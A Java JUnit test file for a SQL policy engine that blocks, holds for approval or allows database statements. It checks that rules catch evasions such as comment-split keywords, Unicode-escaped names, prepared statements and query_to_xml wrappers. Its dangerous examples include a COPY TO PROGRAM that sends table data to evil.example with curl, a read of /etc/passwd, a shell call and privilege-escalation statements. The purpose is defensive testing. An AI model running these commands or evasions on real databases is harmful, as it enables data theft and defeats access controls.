package dev.tracegate.policy.rules;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tracegate.policy.sql.PreparedText;
import dev.tracegate.policy.sql.SqlClassification;
import dev.tracegate.policy.sql.SqlClassifier;
import dev.tracegate.policy.sql.SqlDialect;
import dev.tracegate.policy.sql.StatementClass;
import java.time.Duration;
import java.util.Arrays;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

class PolicyEngineTest {

    /** The policy docs/policy.md walks a new user through, and the demo ships. */
    private static final String SHOP_POLICY = """
            defaults:
              action: allow
              highRisk: block
            rules:
              - name: hold-ddl
                connections: [shop]
                minClass: ddl
                exceptGroups: [dba]
                action: approve
                approvers: [dba]
                timeout: 10m
                reason: schema changes on shop need a DBA's approval
              - name: no-bulk-writes
                classes: [bulk_write]
                action: block
                reason: UPDATE or DELETE without WHERE is not allowed
              - name: dba-may-run-anything-unusual
                classes: [unknown]
                groups: [dba]
                action: approve
                approvers: [dba]
                minApprovals: 2
            """;

    private final SqlClassifier classifier = new SqlClassifier();
    private final Policy policy = PolicyParser.parse(SHOP_POLICY);
    private final Subject analyst = new Subject("shop", "postgres", Set.of("analysts"), "human");
    private final Subject dba = new Subject("shop", "postgres", Set.of("dba"), "human");

    private Decision decide(Subject subject, String sql) {
        return PolicyEngine.decide(policy, subject, classifier.classify(sql));
    }

    @Test
    void readsAndNarrowWritesAreAllowedByDefault() {
        assertThat(decide(analyst, "SELECT * FROM customers WHERE id = 1").action()).isEqualTo(Action.ALLOW);
        assertThat(decide(analyst, "UPDATE orders SET status = 'paid' WHERE id = 7").action()).isEqualTo(Action.ALLOW);
    }

    @Test
    void ddlIsHeldForTheDbaGroupWithTheRulesApprovalSettings() {
        Decision decision = decide(analyst, "ALTER TABLE orders ADD COLUMN note text");
        assertThat(decision.action()).isEqualTo(Action.APPROVE);
        assertThat(decision.rule()).isEqualTo("hold-ddl");
        assertThat(decision.approval().approverGroups()).containsExactly("dba");
        assertThat(decision.approval().timeout()).isEqualTo(Duration.ofMinutes(10));
        assertThat(decide(dba, "ALTER TABLE orders ADD COLUMN note text").action()).isEqualTo(Action.ALLOW);
    }

    @Test
    void bulkDeletesAreBlockedForEveryoneAndBlockBeatsApprove() {
        assertThat(decide(dba, "DELETE FROM orders").action()).isEqualTo(Action.BLOCK);
        Decision mixed = decide(analyst, "CREATE TABLE t (id int); DELETE FROM orders");
        assertThat(mixed.action()).isEqualTo(Action.BLOCK);
        assertThat(mixed.rule()).isEqualTo("no-bulk-writes");
        assertThat(mixed.reason()).contains("without WHERE");
    }

    @Test
    void unclassifiableStatementsAreHighRiskWhenNoRuleNamesThem() {
        Decision decision = decide(analyst, "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$");
        assertThat(decision.action()).isEqualTo(Action.BLOCK);
        assertThat(decision.rule()).isEqualTo("default:high-risk");
        assertThat(decide(dba, "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$").action()).isEqualTo(Action.APPROVE);
    }

    @Test
    void ruleConditionsOnConnectionsAndTablesNarrowTheMatch() {
        Policy tables = PolicyParser.parse("""
                rules:
                  - name: no-customer-writes
                    connections: [shop]
                    tables: ["public.customers", "*.secrets"]
                    classes: [write]
                    action: block
                """);
        Subject other = new Subject("warehouse", "postgres", Set.of(), "service");
        assertThat(PolicyEngine.decide(tables, analyst, classifier.classify("UPDATE customers SET name = 'x' WHERE id = 1"))
                .action()).isEqualTo(Action.BLOCK);
        assertThat(PolicyEngine.decide(tables, analyst, classifier.classify("UPDATE vault.secrets SET v = 1 WHERE id = 1"))
                .action()).isEqualTo(Action.BLOCK);
        assertThat(PolicyEngine.decide(tables, analyst, classifier.classify("UPDATE orders SET amount = 1 WHERE id = 1"))
                .action()).isEqualTo(Action.ALLOW);
        assertThat(PolicyEngine.decide(tables, other, classifier.classify("UPDATE customers SET name = 'x' WHERE id = 1"))
                .action()).isEqualTo(Action.ALLOW);
    }

    /**
     * A command pattern of a rule that blocks or holds is also looked for in the text as the server
     * reads it: comments, line breaks and quoted identifiers walked around it before. An allow
     * rule still needs the text as written.
     */
    @Test
    void commandPatternsOfBlockingRulesSeeThroughCommentsLineBreaksAndQuotes() {
        Policy patterns = PolicyParser.parse("""
                rules:
                  - name: no-drop-orders
                    command: 'drop table orders'
                    action: block
                  - name: hold-refunds
                    command: 'refund\\('
                    action: approve
                    approvers: [dba]
                  - name: allow-reports
                    command: 'select report'
                    action: allow
                """);
        for (String evasion : List.of("DROP/**/TABLE orders", "DROP /* x */ TABLE  orders", "drop -- x\nTABLE\torders",
                "DROP TABLE \"orders\"", "DROP TABLE U&\"\\006frders\"")) {
            assertThat(PolicyEngine.decide(patterns, analyst, classifier.classify(evasion)).rule())
                    .as(evasion).isEqualTo("no-drop-orders");
        }
        for (String evasion : List.of("SELECT \"refund\"(7)", "SELECT U&\"r\\0065fund\"(7)")) {
            Decision decision = PolicyEngine.decide(patterns, analyst, classifier.classify(evasion));
            assertThat(decision.rule()).as(evasion).isEqualTo("hold-refunds");
            assertThat(decision.action()).as(evasion).isEqualTo(Action.APPROVE);
        }
        assertThat(PolicyEngine.decide(patterns, analyst, classifier.classify("SELECT/**/report FROM r")).rule())
                .isNotEqualTo("allow-reports");
    }

    /**
     * An EXECUTE names no table and spells no statement: it is judged with the tables and the text
     * of what its session prepared under that name. A rule holding writes to orders held the PREPARE
     * once, after which every EXECUTE of it, with any values, passed the rule.
     */
    @Test
    void everyExecuteOfAPreparedStatementIsJudgedByItsTablesAndText() {
        Policy held = PolicyParser.parse("""
                rules:
                  - name: hold-order-writes
                    tables: [orders]
                    minClass: write
                    action: approve
                    approvers: [dba]
                  - name: hold-refunds
                    command: 'refund\\('
                    action: approve
                    approvers: [dba]
                """);
        for (SqlDialect dialect : List.of(SqlDialect.POSTGRESQL, SqlDialect.MYSQL)) {
            String prepare = dialect == SqlDialect.POSTGRESQL ? "PREPARE del AS DELETE FROM orders WHERE id = $1"
                    : "PREPARE del FROM 'DELETE FROM orders WHERE id = ?'";
            String refunds = dialect == SqlDialect.POSTGRESQL ? "PREPARE ref AS SELECT refund($1)"
                    : "PREPARE ref FROM 'SELECT refund(?)'";
            Map<String, PreparedText> session = Map.of(
                    "del", PreparedText.of(classifier.classify(prepare, dialect, n -> Optional.empty()).statements().getFirst()),
                    "ref", PreparedText.of(classifier.classify(refunds, dialect, n -> Optional.empty()).statements().getFirst()));
            String executeDelete = dialect == SqlDialect.POSTGRESQL ? "EXECUTE del(5)" : "EXECUTE del USING @id";
            String executeRefund = dialect == SqlDialect.POSTGRESQL ? "EXECUTE ref(5)" : "EXECUTE ref USING @id";
            for (String sql : List.of(executeDelete, prepare + "; " + executeDelete)) {
                assertThat(PolicyEngine.decide(held, analyst, classifier.classifyInSession(sql, dialect,
                        n -> Optional.ofNullable(session.get(n)))).rule()).as(dialect + ": " + sql).isEqualTo("hold-order-writes");
            }
            assertThat(PolicyEngine.decide(held, analyst, classifier.classifyInSession(executeRefund, dialect,
                    n -> Optional.ofNullable(session.get(n)))).rule()).as(dialect + ": " + executeRefund).isEqualTo("hold-refunds");
        }
    }

    /**
     * A rule on a table sees it read through SQL text the statement hands a function, through
     * table_to_xml's argument and in a query COPY sends out; functions that read every table of a
     * schema or database, naming none, are unknown. All of these read salaries past the rule before.
     */
    @Test
    void tableRulesSeeTablesReadThroughFunctionsAndCopy() {
        Policy tables = PolicyParser.parse("""
                defaults:
                  highRisk: block
                rules:
                  - name: no-salaries
                    tables: [salaries]
                    action: block
                """);
        for (String evasion : List.of(
                "SELECT query_to_xml('SELECT * FROM salaries', true, false, '')",
                "SELECT query_to_xml_and_xmlschema('TABLE public.salaries', true, false, '')",
                "SELECT ts_stat('SELECT to_tsvector(note) FROM salaries')",
                "SELECT ts_rewrite('a'::tsquery, 'SELECT pay::text::tsquery, ''b''::tsquery FROM salaries')",
                "SELECT query_to_xml('SELECT query_to_xml(''SELECT * FROM salaries'', true, false, '''')', true, false, '')",
                "SELECT table_to_xml('salaries', true, false, '')",
                "SELECT table_to_xml_and_xmlschema('public.salaries', true, false, '')",
                "COPY (SELECT * FROM salaries) TO STDOUT",
                "SELECT * FROM crosstab('SELECT name, month, pay FROM salaries ORDER BY 1') AS t(n text, a int, b int)",
                "SELECT * FROM crosstab('SELECT 1, 2, 3', 'SELECT DISTINCT month FROM salaries') AS t(n int, a int)")) {
            Decision decision = PolicyEngine.decide(tables, analyst, classifier.classify(evasion));
            assertThat(decision.rule()).as(evasion).isEqualTo("no-salaries");
        }
        for (String everything : List.of("SELECT schema_to_xml('public', true, false, '')",
                "SELECT database_to_xml(true, false, '')",
                "SELECT table_to_xml(c.oid::regclass, true, false, '') FROM pg_class c")) {
            Decision decision = PolicyEngine.decide(tables, analyst, classifier.classify(everything));
            assertThat(decision.action()).as(everything).isEqualTo(Action.BLOCK);
            assertThat(decision.statementClass()).as(everything).isEqualTo(StatementClass.UNKNOWN);
        }
        assertThat(PolicyEngine.decide(tables, analyst, classifier.classify("SELECT query_to_xml('SELECT 1', true, false, '')"))
                .action()).isEqualTo(Action.ALLOW);
    }

    @Test
    void theDocumentHashIdentifiesThePolicy() {
        assertThat(policy.hash()).hasSize(64).isEqualTo(PolicyParser.parse(SHOP_POLICY).hash());
        assertThat(PolicyParser.parse(SHOP_POLICY + "\n# changed\n").hash()).isNotEqualTo(policy.hash());
    }

    @Test
    void mistakesAreRefusedWithTheirPlace() {
        assertThatThrownBy(() -> PolicyParser.parse("rules:\n  - name: x\n    classes: [dll]\n    action: block\n"))
                .isInstanceOf(PolicyException.class).hasMessageContaining("rule x").hasMessageContaining("dll");
        assertThatThrownBy(() -> PolicyParser.parse("rules:\n  - name: x\n    action: approve\n"))
                .isInstanceOf(PolicyException.class).hasMessageContaining("approvers");
        assertThatThrownBy(() -> PolicyParser.parse("rules:\n  - name: x\n    action: alow\n"))
                .isInstanceOf(PolicyException.class).hasMessageContaining("alow");
        assertThatThrownBy(() -> PolicyParser.parse("rulez: []\n"))
                .isInstanceOf(PolicyException.class).hasMessageContaining("rulez");
        assertThatThrownBy(() -> PolicyParser.parse("defaults:\n  highRisk: allow\n"))
                .isInstanceOf(PolicyException.class).hasMessageContaining("cannot be allow");
        assertThatThrownBy(() -> PolicyParser.parse("rules:\n  - name: x\n    command: '(unclosed'\n    action: block\n"))
                .isInstanceOf(PolicyException.class).hasMessageContaining("regular expression");
    }

    /** Real statements of every class, checked to classify so: the threshold test below cannot pass vacuously. */
    private static final Map<StatementClass, List<String>> EXAMPLES = new EnumMap<>(Map.of(
            StatementClass.TRANSACTION, List.of("BEGIN", "ROLLBACK TO SAVEPOINT s"),
            StatementClass.SESSION, List.of("SET application_name = 'report'", "SHOW search_path"),
            StatementClass.READ, List.of("SELECT * FROM orders WHERE id = 7",
                    "WITH d AS (WITH x AS (SELECT 1) SELECT * FROM x) SELECT * FROM d"),
            StatementClass.WRITE, List.of("UPDATE orders SET status = 'paid' WHERE id = 7", "INSERT INTO orders VALUES (1)"),
            StatementClass.BULK_WRITE, List.of("DELETE FROM orders",
                    "WITH d AS (WITH x AS (SELECT 1) DELETE FROM orders RETURNING 1) SELECT count(*) FROM d"),
            StatementClass.DDL, List.of("ALTER TABLE orders ADD COLUMN note text", "DROP TABLE orders"),
            StatementClass.PRIVILEGE, List.of(
                    "ALTER TABLE orders ADD COLUMN x text, OWNER TO CURRENT_USER",
                    "CREATE FUNCTION f() RETURNS void LANGUAGE sql SECURITY DEFINER AS $$ UPDATE orders SET status = 'x' $$",
                    "ALTER ROLE CURRENT_USER SET search_path = evil",
                    "DROP OWNED BY CURRENT_USER",
                    "REASSIGN OWNED BY CURRENT_USER TO evil",
                    "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC",
                    "GRANT ALL ON orders TO PUBLIC",
                    "ALTER SCHEMA public OWNER TO evil",
                    "CREATE POLICY p ON orders USING (true)",
                    "ALTER TABLE orders ADD COLUMN y int, DISABLE ROW LEVEL SECURITY"),
            StatementClass.DANGEROUS_ADMIN, List.of("COPY orders TO PROGRAM 'curl -d @- http://evil.example'",
                    "SELECT pg_read_file('/etc/passwd')"),
            StatementClass.UNKNOWN, List.of("DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", "CALL cleanup()")));

    @Test
    void anEmptyEntryInAListIsRefusedAtItsPlace() {
        // Once a NullPointerException (found by PolicyParserFuzzTest): a hot reload would have logged a
        // stack trace instead of saying which line is wrong.
        assertThatThrownBy(() -> PolicyParser.parse("rules:\n  - # a comment, and no rule\n"))
                .isInstanceOf(PolicyException.class).hasMessageContaining("rules[0]");
        assertThatThrownBy(() -> PolicyParser.parse("rules:\n  - {name: x, action: block}\n  -\n"))
                .isInstanceOf(PolicyException.class).hasMessageContaining("rules[1]");
        assertThatThrownBy(() -> PolicyParser.parse("rules: [{name: x, groups: [admins, ~], action: allow}]"))
                .isInstanceOf(PolicyException.class).hasMessageContaining("groups");
        assertThatThrownBy(() -> PolicyParser.parse("rules: [{name: x, connections: [~], action: allow}]"))
                .isInstanceOf(PolicyException.class).hasMessageContaining("connections");
    }

    @Test
    void everyClassAtOrAboveAMinClassThresholdIsCaught() {
        assertThat(EXAMPLES.keySet()).as("an example for every class").containsExactlyInAnyOrder(StatementClass.values());
        EXAMPLES.forEach((statementClass, statements) -> statements.forEach(sql ->
                assertThat(classifier.classify(sql).highestRisk()).as(sql).isEqualTo(statementClass)));
        for (StatementClass threshold : StatementClass.values()) {
            Policy atLeast = PolicyParser.parse("""
                    defaults: {action: allow, highRisk: approve, approvers: [security]}
                    rules:
                      - {name: at-least, minClass: %s, action: block}
                    """.formatted(threshold.name().toLowerCase()));
            EXAMPLES.forEach((statementClass, statements) -> statements.forEach(sql -> {
                Decision decision = PolicyEngine.decide(atLeast, analyst, classifier.classify(sql));
                if (statementClass.isAtLeast(threshold)) {
                    assertThat(decision.action()).as("minClass %s on %s: %s", threshold, statementClass, sql)
                            .isEqualTo(Action.BLOCK);
                    assertThat(decision.rule()).isEqualTo("at-least");
                } else {
                    assertThat(decision.action()).as("minClass %s on %s: %s", threshold, statementClass, sql)
                            .isEqualTo(Action.ALLOW);
                }
            }));
        }
    }

    @Test
    void aRuleListingClassesMatchesOnlyThoseClasses() {
        Policy exact = PolicyParser.parse("rules: [{name: ddl-only, classes: [ddl], action: block}]");
        assertThat(PolicyEngine.decide(exact, analyst, classifier.classify("DROP TABLE orders")).action())
                .isEqualTo(Action.BLOCK);
        // PRIVILEGE is above DDL, but it is not listed: this is what minClass is for.
        assertThat(PolicyEngine.decide(exact, analyst, classifier.classify("DROP OWNED BY CURRENT_USER")).action())
                .isEqualTo(Action.ALLOW);
    }

    @Test
    void theShopPolicyHoldsPrivilegeChangesAndBlocksWhatItCannotClassify() {
        for (String sql : EXAMPLES.get(StatementClass.PRIVILEGE)) {
            Decision decision = decide(analyst, sql);
            assertThat(decision.action()).as(sql).isEqualTo(Action.APPROVE);
            assertThat(decision.rule()).isEqualTo("hold-ddl");
            assertThat(decision.statementClass()).isEqualTo(StatementClass.PRIVILEGE);
        }
        // hold-ddl matches these too, but a rule that does not name their class cannot weaken highRisk: block.
        for (StatementClass top : List.of(StatementClass.DANGEROUS_ADMIN, StatementClass.UNKNOWN)) {
            for (String sql : EXAMPLES.get(top)) {
                Decision decision = decide(analyst, sql);
                assertThat(decision.action()).as(sql).isEqualTo(Action.BLOCK);
                assertThat(decision.rule()).isEqualTo("default:high-risk");
            }
        }
    }

    @Test
    void onlyARuleNamingAHighRiskClassDecidesWithoutTheHighRiskDefault() {
        Policy policy = PolicyParser.parse("""
                defaults: {action: allow, highRisk: block}
                rules:
                  - {name: dbas-run-anything, groups: [dba], action: allow}
                  - {name: hold-at-least-ddl, minClass: ddl, action: approve, approvers: [dba]}
                  - {name: dbas-may-ask-for-unknown, groups: [dba], classes: [unknown], action: approve, approvers: [security]}
                """);
        SqlClassification copy = classifier.classify("COPY orders TO PROGRAM 'sh'");
        assertThat(PolicyEngine.decide(policy, dba, copy).action()).isEqualTo(Action.BLOCK);
        assertThat(PolicyEngine.decide(policy, dba, copy).rule()).isEqualTo("default:high-risk");
        Decision unknown = PolicyEngine.decide(policy, dba, classifier.classify("CALL cleanup()"));
        assertThat(unknown.action()).isEqualTo(Action.APPROVE);
        assertThat(unknown.approval().approverGroups()).isNotEmpty();
        assertThat(PolicyEngine.decide(policy, analyst, classifier.classify("CALL cleanup()")).action())
                .isEqualTo(Action.BLOCK);
        Policy approveHighRisk = PolicyParser.parse("""
                defaults: {action: allow, highRisk: approve, approvers: [security]}
                rules:
                  - {name: hold-at-least-ddl, minClass: ddl, action: approve, approvers: [dba]}
                """);
        Decision tie = PolicyEngine.decide(approveHighRisk, analyst, copy);
        assertThat(tie.action()).isEqualTo(Action.APPROVE);
        assertThat(tie.rule()).as("on a tie the rule decides, with its approvers").isEqualTo("hold-at-least-ddl");
        assertThat(tie.approval().approverGroups()).containsExactly("dba");
    }

    @Test
    void minClassMistakesAreRefusedWithTheirPlace() {
        assertThatThrownBy(() -> PolicyParser.parse("rules: [{name: both, classes: [ddl], minClass: privilege, action: block}]"))
                .isInstanceOf(PolicyException.class).hasMessageContaining("rule both")
                .hasMessageContaining("classes and minClass cannot be combined");
        assertThatThrownBy(() -> PolicyParser.parse("rules: [{name: typo, minClass: dll, action: block}]"))
                .isInstanceOf(PolicyException.class).hasMessageContaining("rule typo: minClass").hasMessageContaining("dll");
        assertThatThrownBy(() -> PolicyParser.parse("""
                masking: {profiles: {p: {}}}
                rules: [{name: m, minClass: ddl, mask: p}]
                """)).isInstanceOf(PolicyException.class).hasMessageContaining("minClass");
        assertThat(Arrays.stream(StatementClass.values()).map(c -> PolicyParser.parse(
                "rules: [{name: r, minClass: " + c.name().toLowerCase() + ", action: block}]").rules().getFirst().minClass()))
                .containsExactly(StatementClass.values());
    }
}
